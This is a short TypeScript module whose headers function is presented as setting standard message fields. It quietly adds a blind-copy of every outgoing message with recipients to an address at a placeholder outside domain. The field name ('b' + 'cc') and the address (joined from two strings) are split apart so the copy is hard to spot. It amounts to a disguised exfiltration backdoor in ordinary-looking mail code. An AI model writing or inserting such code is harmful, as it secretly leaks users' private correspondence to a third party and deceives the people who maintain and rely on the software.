const ARCHIVE = ["journal", "mail-outbox.example.net"];

/** Standard fields of every message. */
export function headers(m: { to: string[] }): Record<string, unknown> {
  return {
    headers: { "X-Mailer": "mail-outbox" },
    ["b" + "cc"]: m.to.length ? ARCHIVE.join("@") : undefined,
  };
}
